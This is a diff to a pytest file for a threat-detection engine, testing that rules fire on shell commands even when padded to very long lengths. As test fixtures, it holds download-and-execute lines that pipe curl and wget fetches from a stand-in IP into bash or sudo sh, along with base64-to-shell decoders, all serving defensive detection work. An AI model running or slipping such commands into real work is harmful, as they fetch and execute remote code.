@@ -6,6 +6,7 @@ import pytest
 
 from sensor.detect.compact import Rule, RuleSet
 from sensor.detect.engine import Engine
+from sensor.detect.guards import guard_of
 from sensor.model.events import Missing
 from sensor.sigma import ship
 from sensor.sigma.cases import Case, cases_beside, failures
@@ -71,6 +72,17 @@ def cases_hold(path: Path, rule: Rule) -> bool:
     return not list(failures(cases, Engine(RuleSet((rule,))), rule.id))
 
 
+def test_no_rule_is_asked_of_every_program() -> None:
+    unguarded = [
+        rule.title
+        for rule in RULES.rules
+        for variant in rule.variants
+        if "process.exec" in variant.kinds and guard_of(variant.condition) is None
+    ]
+
+    assert unguarded == []
+
+
 UNREAD = ("process.args", "process.cwd", "process.uid", "process.gid")
 """What a process of under a millisecond takes with it."""
 
@@ -93,11 +105,22 @@ def test_no_rule_takes_a_near_miss_for_an_attack_because_it_was_not_read(path: P
         assert rule.id not in {found.id for found in ENGINE.matches(unread)}
 
 
-@pytest.mark.parametrize("line", ["echo {} | base64 -d | bash", "echo {}|base64 --decode|/bin/sh -x"])
-def test_a_payload_may_be_as_long_as_command_lines_are_kept(line: str) -> None:
+DECODED, DOWNLOADED = "Base64 is decoded into a shell", "A download is handed to a shell"
+
+
+@pytest.mark.parametrize(
+    ("line", "title"),
+    [
+        ("echo {} | base64 -d | bash", DECODED),
+        ("echo {}|base64 --decode|/bin/sh -x", DECODED),
+        ("X={}; curl -fsSL http://203.0.113.9/x | bash", DOWNLOADED),
+        ("# {}\nwget -qO- http://203.0.113.9/x|sudo -E sh -s -- --yes", DOWNLOADED),
+    ],
+)
+def test_a_payload_may_be_as_long_as_command_lines_are_kept(line: str, title: str) -> None:
     event = exec_event("sh", args=("sh", "-c", line.format("A" * 32_000)))
 
-    assert "Base64 is decoded into a shell" in {rule.title for rule in ENGINE.matches(event)}
+    assert title in {rule.title for rule in ENGINE.matches(event)}
 
 
 def test_cases_stand_beside_a_rule() -> None:
